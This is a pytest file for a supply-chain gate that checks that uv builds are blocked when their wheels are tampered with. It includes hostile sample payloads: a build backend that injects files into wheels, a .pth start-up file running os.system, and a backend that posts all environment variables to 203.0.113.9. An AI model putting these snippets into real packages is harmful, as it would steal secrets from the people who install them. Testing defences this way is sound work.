"""A wheel that uv builds is judged before uv takes it, wherever its source came from."""

from __future__ import annotations

import shlex
import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest

from support.builders import make_sdist, make_tree
from support.gated import installed
from support.held import EVIL, OLD
from support.hostile_builds import PYPROJECT
from support.selection import everyday

if TYPE_CHECKING:
    from pathlib import Path

    from uv_world import Target, Uv

    from support.tls_index import TlsIndex

OURS = "BLOCK {name} 1.0  it would overwrite veln-hook"
_WRITES = """
import _test_backend as honest
from _test_backend import *
import os, zipfile

def build_wheel(directory, *args, **kwargs):
    name = honest.build_wheel(directory, *args, **kwargs)
    with zipfile.ZipFile(os.path.join(directory, name), "a") as wheel:
        wheel.writestr(zipfile.ZipInfo({path!r}), {text!r})
    return name

def build_editable(directory, *args, **kwargs):
    name = honest.build_editable(directory, *args, **kwargs)
    with zipfile.ZipFile(os.path.join(directory, name), "a") as wheel:
        wheel.writestr(zipfile.ZipInfo({path!r}), {text!r})
    return name
"""
_STARTS = "import os; os.system('id')\n"


def _project(path: str = "veln_hook/_startup.py", text: str = "") -> dict:
    """Return what makes a project whose source is innocent, and whose wheel isn't."""
    # Put together while it builds, so that no reading of the source tells it.
    code = _WRITES.format(path=path, text=text)
    return {"pyproject": PYPROJECT, "files": {"hostile.py": code, "demo.py": ""}}


def _repository(tree: Path) -> str:
    git = ["git", "-C", str(tree), "-c", "user.name=a", "-c", "user.email=a@b"]
    for words in (("init", "-q"), ("add", "-A"), ("commit", "-qm", "x")):
        subprocess.run([*git, *words], check=True)
    return f"demo @ git+{tree.as_uri()}"


def _source(kind: str, index: TlsIndex, directory: Path, project: dict) -> list[str]:
    """Return the words that install a project from one of the places that there are."""
    if kind == "index":
        index.add(make_sdist(directory, "demo", "3.0", **project), upload_time=OLD)
        return ["demo==3.0"]
    if kind == "sdist":
        return [str(make_sdist(directory, "demo", "3.0", **project))]
    tree = make_tree(directory / "tree", "demo", "3.0", **project)
    if kind == "git":
        if shutil.which("git") is None:
            pytest.skip("git is not installed")
        return [_repository(tree)]
    return ["-e", str(tree)] if kind == "editable" else [str(tree)]


KINDS = ("tree", "editable", "sdist", "index", "git")


@pytest.mark.parametrize("kind", everyday(KINDS, ("sdist", "git", "tree")))
def test_a_wheel_that_overwrites_us_is_not_installed(
    target: Target, demo: TlsIndex, tmp_path: Path, kind: str
) -> None:
    result = target.install(demo, *_source(kind, demo, tmp_path, _project()))
    assert result.returncode == 1, result
    assert "BLOCK demo 3.0" in result.stderr, result
    assert "veln-hook: the build made what is not installed" in result.stderr, result
    assert target.installed() == {}


@pytest.mark.parametrize("kind", everyday(KINDS, ("sdist", "git")))
def test_nor_one_with_a_start_up_file(target: Target, demo: TlsIndex, tmp_path: Path, kind: str) -> None:
    result = target.install(demo, *_source(kind, demo, tmp_path, _project("demo_starts.pth", _STARTS)))
    assert result.returncode in (1, 77), result
    assert "demo 3.0" in result.stderr, result
    assert "veln-hook: the build made what is not installed" in result.stderr, result
    assert target.installed() == {}


@pytest.mark.parametrize("kind", everyday(KINDS, ("index", "editable")))
def test_a_plain_one_is(target: Target, demo: TlsIndex, tmp_path: Path, kind: str) -> None:
    result = target.install(demo, *_source(kind, demo, tmp_path, {}))
    assert (result.returncode, target.installed()) == (0, {"demo": "3.0"}), result
    assert "demo 3.0" not in result.stderr, result


def test_without_the_sandbox_it_is_judged_all_the_same(newest: Uv, demo: TlsIndex, tmp_path: Path) -> None:
    venv = newest.venv(tmp_path / "venv")
    tree = make_tree(tmp_path / "tree", "demo", "3.0", **_project())
    policy = '[sandbox]\nbuilds = "off"\n'
    result = newest.gated("pip", "install", "--python", venv, tree, index=demo, policy=policy)
    assert result.returncode == 1, result
    assert "BLOCK demo 3.0" in result.stderr, result
    assert installed(venv) == {}


def test_a_build_requirement_that_uv_builds_for_itself_is_judged(
    target: Target, demo: TlsIndex, tmp_path: Path
) -> None:
    demo.add(make_sdist(tmp_path, "helper", "1.0", **_project("helper_starts.pth", _STARTS)), upload_time=OLD)
    pyproject = PYPROJECT.replace("requires = []", 'requires = ["helper"]')
    files = {"hostile.py": "from _test_backend import *\n", "demo.py": ""}
    tree = make_tree(tmp_path / "tree", "demo", "3.0", pyproject=pyproject, files=files)
    result = target.install(demo, tree)
    assert result.returncode in (1, 77), result
    assert "helper 1.0" in result.stderr, result
    assert target.installed() == {}


def test_what_was_refused_is_not_taken_from_the_cache_later(
    target: Target, demo: TlsIndex, tmp_path: Path
) -> None:
    words = _source("index", demo, tmp_path, _project())
    for more in ((), ("--offline",)):
        result = target.install(demo, *words, *more)
        assert result.returncode == 1, result
        assert target.installed() == {}


def test_what_uv_build_makes_is_the_users_own(newest: Uv, demo: TlsIndex, tmp_path: Path) -> None:
    tree = make_tree(tmp_path / "tree", "evil", "1.0", files=EVIL)
    result = newest.gated("build", "--wheel", "-o", tmp_path / "out", tree, index=demo)
    assert result.returncode == 0, result
    assert (tmp_path / "out/evil-1.0-py3-none-any.whl").exists()


def test_a_checkout_that_does_not_pass_is_not_built(target: Target, demo: TlsIndex, tmp_path: Path) -> None:
    """Its backend is the user's Python's start-up code as soon as it is judged so."""
    steals = (
        "import os, urllib.request as r\nr.urlopen('http://203.0.113.9/', str(dict(os.environ)).encode())\n"
    )
    project = {"pyproject": PYPROJECT, "files": {"hostile.py": steals, "demo.py": ""}}
    result = target.install(demo, *_source("git", demo, tmp_path, project))
    assert result.returncode in (1, 77), result
    assert "veln-hook: this is not built" in result.stderr, result
    assert target.installed() == {}


def test_a_checkout_is_judged_once_whatever_its_build_leaves_there(
    target: Target, demo: TlsIndex, tmp_path: Path
) -> None:
    """Bytecode without its source is a reason to hold, and so is much else that builds leave behind."""
    leaves = "import os\nos.makedirs('__pycache__', exist_ok=True)\nopen('__pycache__/x.cpython-311.pyc', 'w').close()\n"
    files = {
        "hostile.py": f"{leaves}open('left.pyc', 'w').close()\nfrom _test_backend import *\n",
        "demo.py": "",
    }
    words = _source("git", demo, tmp_path, {"pyproject": PYPROJECT, "files": files})
    for more in ((), ("--reinstall", "--refresh")):
        result = target.install(demo, *words, *more)
        assert (result.returncode, target.installed()) == (0, {"demo": "3.0"}), result
        assert "left.pyc" not in result.stderr


def test_one_that_was_held_is_installed_once_it_is_approved(
    target: Target, demo: TlsIndex, tmp_path: Path
) -> None:
    words = _source("index", demo, tmp_path, _project("demo_starts.pth", _STARTS))
    held = target.install(demo, *words)
    assert (held.returncode, target.installed()) == (77, {}), held
    command = next(line for line in held.stderr.splitlines() if line.strip().startswith("approve"))
    words_told = shlex.split(command.replace('"..."', "fine"))
    target.uv.veln_hook(*words_told[2:], check=True)
    passed = target.install(demo, *words)
    assert (passed.returncode, target.installed()) == (0, {"demo": "3.0"}), passed
